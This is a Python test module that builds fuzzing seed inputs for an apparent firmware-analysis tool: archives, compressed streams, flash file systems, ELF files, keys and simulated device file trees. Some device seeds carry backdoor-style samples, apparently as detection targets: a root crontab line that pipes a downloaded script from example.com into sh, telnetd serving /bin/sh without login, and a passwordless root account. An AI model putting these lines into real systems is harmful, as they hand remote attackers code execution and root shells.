"""Honest inputs of our own making, one or more a target: what the mutator starts from."""

import bz2
import gzip
import io
import lzma
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping

import lz4.block
import lz4.frame
import zstandard
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat

from fairmark.demo.formats import Node, cpio_newc, newc_record, squashfs, trx, uimage, write_squashfs
from fairmark.demo.keys import authority_certificate, device_certificate, private_pem, public_pem, rsa_key
from tests.doubles import boot_files, firmware_images, flash_images, rpm_databases
from tests.doubles.elves import elf, hardened_daemon
from tests.doubles.images import DIRECTORY, FILE, LINK, NOISE, tar
from tests.doubles.old_squashfs import Style, old_squashfs
from tests.examine.containers import test_android_sparse, test_cramfs, test_fit, test_lzop, test_romfs
from tests.fuzz import corpus, seeds_of_probes, seeds_of_texts

BODY = NOISE[:900] + bytes(1500) + b"text that can be packed " * 60
NODES = (
    Node(b"bin/busybox", stat.S_IFREG | 0o755, BODY, mtime=9),
    Node(b"bin/sh", LINK, target=b"busybox"),
    Node(b"dev/console", stat.S_IFCHR | 0o600, rdev=0x501),
    Node(b"etc/passwd", FILE, b"root:x:0:0:root:/root:/bin/sh\n", uid=3, gid=4),
    Node(b"etc/deep/deeper/f", FILE, b"here"),
    Node(b"empty", FILE),
)
OLD_NODES = (
    Node(b"bin", DIRECTORY),
    Node(b"etc", DIRECTORY),
    Node(b"etc/deep", DIRECTORY),
    Node(b"etc/deep/deeper", DIRECTORY),
    Node(b"dev", DIRECTORY),
    *NODES,
)
_FILES = {b"f": BODY, b"g": b"x", b"empty": b""}


def write_all() -> int:
    """Write every seed; return how many there are."""
    count = 0
    for target, named in sorted(_all().items()):
        for name, data in sorted(named.items()):
            corpus.write(target, f"seed-{name}", data)
            count += 1
    return count


def _all() -> dict[str, Mapping[str, bytes]]:
    return {
        **_archives(),
        **_streams(),
        **_file_systems(),
        **_programs(),
        **firmware_images.seeds(),
        **_databases(),
        **seeds_of_texts.every(),
        **seeds_of_probes.every(),
    }


def _archives() -> dict[str, Mapping[str, bytes]]:
    early = cpio_newc(NODES)
    hard = newc_record(Node(b"a", FILE), b"body", inode=7, links=2) + newc_record(
        Node(b"b", FILE), b"body", inode=7, links=2
    )
    odc = b"070707" + b"%06o" * 8 % (1, 2, FILE, 0, 0, 1, 0, 2) + b"%011o" % 9 + b"%06o" % 2 + b"%011o" % 3 + b"f\0abc"
    end = (
        b"070707"
        + b"%06o" * 8 % (0, 0, 0, 0, 0, 1, 0, 11)
        + b"%011o" % 0
        + b"%06o" % 11
        + b"%011o" % 0
        + b"TRAILER!!!\0"
    )
    plain = [(node.path.decode(), node.data) for node in NODES if stat.S_ISREG(node.mode)]
    return {
        "cpio": {"newc": early, "links": hard + cpio_newc([]), "odc": odc[:59] + odc[59:] + end},
        "tar": {
            "gnu": _tar(tarfile.GNU_FORMAT),
            "pax": _tar(tarfile.PAX_FORMAT),
            "ustar": tar(plain, tarfile.USTAR_FORMAT),
        },
        "zip": {
            "deflated": _zip(zipfile.ZIP_DEFLATED),
            "stored": _zip(zipfile.ZIP_STORED),
            "zip64": _zip(zipfile.ZIP_STORED, large=True),
        },
        "trx": {"two": trx([uimage(gzip.compress(early, mtime=0), name="kernel"), squashfs(NODES)])},
        "uimage": {
            "kernel": uimage(gzip.compress(early, mtime=0), name="kernel", compression=1),
            "several": uimage(struct.pack(">III", 100, len(early), 0) + BODY[:100] + early, name="multi", kind=4),
        },
        "extract": {
            "device": BODY + bytes(600) + uimage(early, name="k") + b"\xff" * 512 + squashfs(NODES) + NOISE[:200]
        },
    }


def _tar(form: int) -> bytes:
    sink = io.BytesIO()
    with tarfile.open(fileobj=sink, mode="w", format=form) as archive:
        for name, kind, target, data in (
            *(
                ("d", tarfile.DIRTYPE, "", b""),
                ("d/f", tarfile.REGTYPE, "", BODY[:700]),
                ("l", tarfile.SYMTYPE, "d/f", b""),
            ),
            *(
                ("h", tarfile.LNKTYPE, "d/f", b""),
                ("c", tarfile.CHRTYPE, "", b""),
                ("long/" * 40 + "é", tarfile.REGTYPE, "", b"x"),
            ),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, target, len(data)
            archive.addfile(info, io.BytesIO(data))
    return sink.getvalue()


def _zip(method: int, *, large: bool = False) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", method) as archive:
        for node in NODES:
            info = zipfile.ZipInfo(node.path.decode(), (2020, 1, 2, 3, 4, 6))
            info.compress_type, info.external_attr = method, node.mode << 16
            with archive.open(info, "w", force_zip64=large) as member:
                member.write(node.data or node.target)
        archive.comment = b"comment"
    return sink.getvalue()


def _streams() -> dict[str, Mapping[str, bytes]]:
    inner = cpio_newc(NODES)
    alone = lzma.compress(inner, lzma.FORMAT_ALONE)
    block = lz4.block.compress(inner, store_size=False)
    return {
        "gzip": {"one": gzip.compress(inner, mtime=0), "two": gzip.compress(b"a" * 90, mtime=0) * 2},
        "xz": {"one": lzma.compress(inner), "crc32": lzma.compress(BODY, check=lzma.CHECK_CRC32)},
        "lzma": {"endless": alone, "sized": alone[:5] + len(inner).to_bytes(8, "little") + alone[13:]},
        "bzip2": {"one": bz2.compress(inner)},
        "zstd": {"one": zstandard.compress(inner)},
        "lz4": {"one": lz4.frame.compress(inner, content_checksum=True)},
        "lz4_legacy": {"one": b"\x02\x21\x4c\x18" + len(block).to_bytes(4, "little") + block},
        "lzop": {"one": test_lzop.lzop(inner), "checked": test_lzop.lzop(inner, 0x1303)},
        "android_sparse": {
            "one": test_android_sparse.sparse(
                [
                    (0xCAC1, 1, inner.ljust(4096, b"\0")[:4096]),
                    (0xCAC2, 1, b"fill"),
                    (0xCAC3, 3, b""),
                    (0xCAC4, 0, b"1234"),
                ]
            )
        },
    }


def _file_systems() -> dict[str, Mapping[str, bytes]]:
    plain = write_squashfs(NODES, 1, lambda data, _size: data, 4096)
    leaves = [
        flash_images.ubifs_inode(1, DIRECTORY),
        flash_images.ubifs_inode(70, LINK, 1, b"f"),
        flash_images.ubifs_name(1, b"l", 70),
    ]
    for number, data in enumerate(_FILES.values(), start=65):
        leaves += [
            flash_images.ubifs_name(1, b"f%d" % number, number),
            flash_images.ubifs_inode(number, FILE, len(data)),
        ]
        leaves += [flash_images.ubifs_data(number, 0, data)] if data else []
    ubifs = bytes(flash_images.ubifs_image(leaves, [flash_images.ubifs_truncation(65, 10, sequence=60)]))
    ubi = flash_images.ubi_table({0: b"a", 1: b"b"}) + flash_images.ubi_block(0, 0, BODY, 1)
    yaffs2 = flash_images.yaffs2_directory(1, b"") + flash_images.yaffs2_file(257, b"f", BODY)
    yaffs2 += flash_images.yaffs2_directory(258, b"d") + flash_images.yaffs2_file(259, b"g", b"x", parent=258)
    jffs2 = b"".join(
        flash_images.jffs2_file(number, name, data) for number, (name, data) in enumerate(_FILES.items(), start=2)
    )
    return {
        "squashfs": {
            **{
                f"old-{version}-{name}": old_squashfs(OLD_NODES, Style(version, order))
                for version in (1, 2, 3, 4)
                for name, order in (("little", "<"), ("big", ">"))
            },
            "plain": plain,
            **{kind: squashfs(NODES, compression=kind) for kind in ("gzip", "xz", "lzma", "zstd", "lz4")},
        },
        "ubifs": {"one": ubifs},
        "ubi": {"two": ubi + flash_images.ubi_block(1, 0, BODY, 2, static=1)},
        "jffs2": {"little": jffs2, "big": flash_images.jffs2_file(2, b"f", BODY, ">")},
        "yaffs2": {"one": yaffs2},
        "erofs": {"one": bytes(flash_images.erofs_image({b"f": (BODY, 0, b""), b"g": (b"x", 2, b"x")}))},
        "ext": {"one": bytes(flash_images.ext_image({b"f": BODY, b"g": b"x"}))},
        "cramfs": {
            "little": test_cramfs.built("<", [96 + len(_deflated())], _deflated(), 2000),
            "big": test_cramfs.built(">", [96 + len(_deflated())], _deflated(), 2000),
        },
        "romfs": {"one": test_romfs.IMAGE},
        "fit": {"inside": test_fit.INSIDE},
        "device_tree": {"one": test_fit.PLAIN},
    }


def _deflated() -> bytes:
    return zlib.compress(b"packed well " * 166 + b"12345678")


def _programs() -> dict[str, Mapping[str, bytes]]:
    rsa = rsa_key("fuzz", 512)
    elves = {
        f"{bits}-{'big' if big else 'little'}-{table}": elf(
            bits=bits,
            big_endian=big,
            table=table,
            imports=("listen", "strcpy"),
            defined=("main",),
            soname="libx.so.1",
            rpath="/opt/lib",
        )
        for bits in (32, 64)
        for big in (False, True)
        for table in ("gnu", "sysv", "")
    }
    dpkg = "Package: zlib1g\nStatus: install ok installed\nArchitecture: armhf\nSource: zlib (1:1.2.13)\nVersion: 1:1.2.13.dfsg-1+deb12u1\nDescription: x\n more\n"
    return {
        "elf": {**elves, "hardened": hardened_daemon(b"BusyBox v1.36.1 (2024)\0")},
        "keys": {
            "private": private_pem(rsa),
            "certificate": device_certificate(rsa, "Camera 7"),
            "several": public_pem("fuzz") + authority_certificate("fuzz", "Authority") + b"text\n" + private_pem(rsa),
            "der": rsa.private_bytes(Encoding.DER, PrivateFormat.PKCS8, NoEncryption()),
            "public-der": rsa.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
            "dropbear": b"\0\0\0\x07ssh-rsa\0\0\0\x03\1\0\1\0\0\0\x40" + bytes(range(1, 65)) + b"\0\0\0\x04aaaa",
        },
        "packages": {
            "dpkg": f'=== /etc/os-release\nID=debian\nVERSION_ID="12"\n=== /lib/libz.so.1\nx\n=== /var/lib/dpkg/info/zlib1g.list\n/.\n/lib/libz.so.1\n=== /var/lib/dpkg/status\n{dpkg}\n{dpkg.replace("zlib1g", "adduser")}'.encode(),
            "status-d": f"=== /var/lib/dpkg/status.d/base\n{dpkg}".encode(),
            "opkg": b"=== /usr/lib/opkg/info/dropbear.control\nPackage: dropbear\nVersion: 2022.82-2\nSource: feeds/base/dropbear\nLicense: MIT\n=== /usr/lib/opkg/info/dropbear.list\n/usr/sbin/dropbear\n/etc/init.d/dropbear\n=== /usr/sbin/dropbear\nx\n=== /usr/lib/opkg/status\nPackage: dropbear\nVersion: 2022.82-2\nStatus: install user installed\nArchitecture: mips_24kc\n\nPackage: gone\nStatus: deinstall ok not-installed\n",
            "apk": b"=== /sbin/apk\nx\n=== /lib/apk/db/installed\nC:Q1abc=\nP:busybox\nV:1.36.1-r5\nA:armv7\nL:GPL-2.0-only\no:busybox\nF:bin\nR:busybox\na:0:0:755\nF:sbin\nR:apk\n\nP:musl\nV:1.2.4_git20230717-r4\nA:armv7\n",
        },
        "device": {
            "systemd": b"=== /etc/systemd/system/multi-user.target.wants/x.service -> /lib/systemd/system/x.service\n=== /lib/systemd/system/x.service\n[Unit]\nDescription=x\n[Service]\nExecStart=/usr/bin/x -p 80\nUser=www\nEnvironment=A=1\n[Install]\nWantedBy=multi-user.target\n=== /lib/systemd/systemd\nx\n=== /sbin/init -> /lib/systemd/systemd\n=== /usr/bin/x\n#!/bin/sh\nexec telnetd -l /bin/sh\n",
            "openwrt": b"=== /etc/rc.d/S50x -> ../init.d/x\n=== /etc/init.d/x\n#!/bin/sh /etc/rc.common\nSTART=50\nstart_instance() { config_get_bool on $1 enable 1; [ $on = 1 ] && dropbear -p 22; }\nstart() { config_load dropbear; config_foreach start_instance dropbear; }\n=== /etc/config/dropbear\nconfig dropbear main\n\toption enable '1'\n\tlist port '22'\n=== /etc/shadow\nroot:$1$abcdefgh$1234567890123456789012:0:0:99999:7:::\n=== /etc/passwd\nroot:x:0:0:root:/root:/bin/ash\n",
            "sysv": b'=== /etc/inittab\n::sysinit:/etc/init.d/rcS\n::respawn:/sbin/getty -L ttyS0 115200\n=== /etc/init.d/rcS\n#!/bin/sh\nfor i in /etc/init.d/S??*; do [ -x $i ] && $i start; done\n=== /etc/init.d/S50telnet\n#!/bin/sh\ncase "$1" in start) telnetd -F & ;; stop) killall telnetd;; esac\n=== /etc/crontabs/root\n*/5 * * * * wget -O- http://example.com/u.sh | sh\n=== /etc/passwd\nroot::0:0:root:/root:/bin/sh\n',
        },
    }


def _databases() -> dict[str, Mapping[str, bytes]]:
    files = {"/usr/bin/": ["curl"], "/etc/": ["curlrc"]}
    headers = [
        rpm_databases.header("curl", "8.4.0", epoch=1, files=files, flags=[0, 1]),
        rpm_databases.header("zlib", "1.3"),
    ]
    values = {
        "baudrate": "115200",
        "bootargs": "console=ttyS0 root=/dev/mtdblock2",
        "bootcmd": "bootm",
        "bootdelay": "3",
    }
    config = boot_files.configuration('CONFIG_ARM=y\n# CONFIG_MODULE_SIG is not set\nCONFIG_CMDLINE="a b"\n')
    inside = NOISE[:300] + b"IKCFG_ST" + gzip.compress(config, mtime=0) + b"IKCFG_ED" + bytes(100)
    head = (bytes(0x24) + b"\x18\x28\x6f\x01").ljust(512, b"\2")
    return {
        "rpm_sqlite": {"two": rpm_databases.sqlite(headers)},
        "rpm_ndb": {"two": rpm_databases.ndb(headers)},
        "rpm_bdb": {"little": rpm_databases.bdb(headers), "big": rpm_databases.bdb(headers, order=">")},
        "boot_environment": {
            "one": boot_files.environment(values, size=1024),
            "two": boot_files.environment(values, size=1024, copies=2) + b"\xff" * 90 + b"\0bootcmd=x\0y=1\0\0",
        },
        "kernel": {"plain": b"\0\1" + inside, "packed": head + gzip.compress(inside, mtime=0) + b"\3" * 99},
    }
